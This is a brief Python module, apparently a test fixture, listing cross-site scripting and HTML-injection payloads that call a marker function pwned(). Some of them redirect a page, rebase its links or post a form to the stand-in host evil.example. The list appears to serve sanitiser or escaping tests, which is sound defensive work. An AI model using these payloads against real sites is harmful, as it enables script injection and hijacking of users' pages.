"""Texts that would do something in a page that took them as HTML, and one word to find them by."""

from __future__ import annotations

from typing import Final

PAYLOADS: Final = (
    "<script>pwned()</script>",
    "</script><script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    "<svg onload=pwned()>",
    "<svg><script>pwned()</script></svg>",
    '"><script>pwned()</script>',
    "'><img src=x onerror=pwned()>",
    '" onfocus=pwned() autofocus x="',
    "' onmouseover='pwned()",
    "<iframe srcdoc='<script>pwned()</script>'></iframe>",
    "<a href=javascript:pwned()>x</a>",
    "javascript:pwned()",
    "</textarea><script>pwned()</script>",
    "</title><script>pwned()</script>",
    "</td></tr></table><script>pwned()</script>",
    "<!--><script>pwned()</script>-->",
    "<math><mtext><script>pwned()</script>",
    "<style>@import 'http://evil.example/pwned'</style>",
    "<base href=http://evil.example/pwned/>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/pwned'>",
    "<form action=http://evil.example/pwned><button>pwned</button></form>",
    "{{ 7 * 7 }}{% set pwned = 1 %}",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "\u2028<script>pwned()</script>",
    "<details open ontoggle=pwned()>",
)
